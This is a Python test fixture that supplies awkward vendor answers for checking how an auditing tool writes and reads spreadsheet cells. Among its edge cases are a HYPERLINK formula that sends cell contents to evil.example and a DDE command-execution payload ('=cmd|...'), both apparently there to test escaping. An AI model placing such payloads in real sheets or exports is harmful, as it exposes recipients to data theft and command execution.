"""Answers that are hard to carry through a sheet."""

from auditor.policy.attestations import FIELDS, Given
from auditor.policy.checklist import find_checklist

VENDOR = "deepseek"
HARD = [
    "plain",
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+49 30 1234",
    "-5 and less",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\n=1+1",
    "'quoted from the start",
    "'=1+1",
    "''",
    'she said "yes", twice;\nthen\tleft',
    "数据处理协议已签署，有效期至 2027 年。",
    "emoji \U0001f600, combining e\u0301, bidi \u202e, nbsp \u00a0, bom \ufeff",
    "  spaces around  ",
    "x" * 20_000,
    "1e5",
    "TRUE",
    "#N/A",
    "_x000D_ &amp; <b>",
    "a,b;c\td",
    "line one\n\nline three\n",
]
ANSWERS: list[Given] = [
    {"topic": topic.id, "answer": ("yes", "no", "partly", "not applicable")[n % 4], "comment": text}
    for n, (topic, text) in enumerate(zip(find_checklist().topics, HARD, strict=False))
]
ANSWERS[0] |= {
    "document": "=cmd|' /C calc'!A0",
    "sha256": "0" * 64,
    "issuer": '-Issuer, "quoted"',
    "scope": "@everything\nin the EU",
    "issued": "2026-01-01",
    "expires": "2026-12-31",
    "reviewer": "+A. Person",
    "reviewed": "2026-02-01",
    "in-scope": "yes",
}
ANSWERS.append({"topic": "gv-07", "document": "only a document"})


def filled(answers: list[Given] = ANSWERS) -> list[list[str]]:
    """The rows of a sheet as a vendor sends it back."""
    from auditor.policy.sheet import rows_of

    heads, *rows = rows_of(find_checklist(), VENDOR)
    given = {each["topic"]: each for each in answers}
    made = [heads]
    for row in rows:
        cells = dict(zip(heads, row, strict=True))
        cells |= {k: v for k, v in given.get(cells["topic"], {}).items() if k in FIELDS}
        made.append([cells[name] for name in heads])
    return made
